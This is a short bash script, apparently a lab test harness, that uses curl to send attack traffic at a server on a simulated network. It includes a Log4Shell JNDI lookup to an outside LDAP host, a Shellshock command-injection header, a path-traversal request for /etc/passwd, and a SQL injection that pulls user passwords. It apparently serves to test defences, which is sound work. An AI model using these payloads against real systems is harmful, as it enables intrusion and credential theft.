# shellcheck shell=bash
attack() { on inet curl -s --interface 198.51.100.99 --max-time 10 -o /dev/null "$@" || true; }
in_ns mm-srv ip route replace default via 192.168.1.1
attack http://192.168.1.10/
attack -A '${jndi:ldap://198.51.100.99:1389/a}' http://192.168.1.10/
attack -A '() { :;}; /bin/bash -c "id"' http://192.168.1.10/cgi-bin/status
attack --path-as-is 'http://192.168.1.10/cgi-bin/.%2e/.%2e/.%2e/etc/passwd'
attack "http://192.168.1.10/item?id=1%27%20UNION%20SELECT%20name,pass%20FROM%20users--"
